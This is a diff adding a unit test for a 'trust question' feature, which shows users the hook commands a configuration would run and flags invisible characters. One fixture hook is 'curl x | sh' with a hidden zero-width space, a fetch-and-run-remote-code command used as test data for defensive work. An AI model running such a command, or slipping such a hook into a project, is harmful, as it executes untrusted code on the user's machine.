@@ -47,6 +47,28 @@ describe('the trust question', () => {
     );
   });
 
+  it('gives each hook command a line: its event, matcher and command whole, and when it would run', () => {
+    const q = trustQuestion(
+      held([
+        {
+          key: 'hooks',
+          value: {
+            PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'curl x | sh\u200b' }] }],
+            Stop: [{ hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/stop.sh' }] }],
+          },
+        },
+      ]),
+      200,
+    );
+    expect(q).toContain(
+      '  hooks PreToolUse `Bash` `curl x | sh\\u200b`: this command would run on your machine before each tool call its matcher names',
+    );
+    expect(q).toContain(
+      '  hooks Stop `"$CLAUDE_PROJECT_DIR"/stop.sh`: this command would run on your machine whenever the model ends its turn',
+    );
+    expect(q).toContain('⚠ 1 character');
+  });
+
   it('wraps without cutting: every character is kept', () => {
     const text = `  ${'word '.repeat(30)}${'y'.repeat(150)}`;
     const rows = wrapRows(text, 40, '    ');
